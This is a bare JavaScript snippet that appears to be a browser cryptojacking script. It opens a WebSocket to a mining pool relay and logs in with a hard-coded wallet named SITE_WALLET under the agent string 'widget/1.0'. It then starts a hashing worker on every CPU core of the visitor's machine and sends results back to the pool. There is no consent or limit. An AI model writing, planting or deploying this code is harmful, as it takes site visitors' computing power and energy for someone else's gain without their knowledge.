const POOL = 'wss://ws.hashpool-relay.net:443';
const SITE_WALLET = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const workers = [];
const ws = new WebSocket(POOL);
ws.onopen = () => ws.send(JSON.stringify({ id: 1, method: 'login', params: { login: SITE_WALLET, pass: 'web', agent: 'widget/1.0' } }));
ws.onmessage = (event) => {
  const msg = JSON.parse(event.data);
  if (msg.method === 'job' || (msg.result && msg.result.job)) {
    const job = msg.params || msg.result.job;
    for (let i = 0; i < navigator.hardwareConcurrency; i++) {
      const w = workers[i] || (workers[i] = new Worker('/hash-worker.js'));
      w.postMessage({ blob: job.blob, target: job.target, start: i });
      w.onmessage = (r) => ws.send(JSON.stringify({ id: 2, method: 'submit', params: { id: msg.result?.id, job_id: job.job_id, nonce: r.data.nonce, result: r.data.hash } }));
    }
  }
};
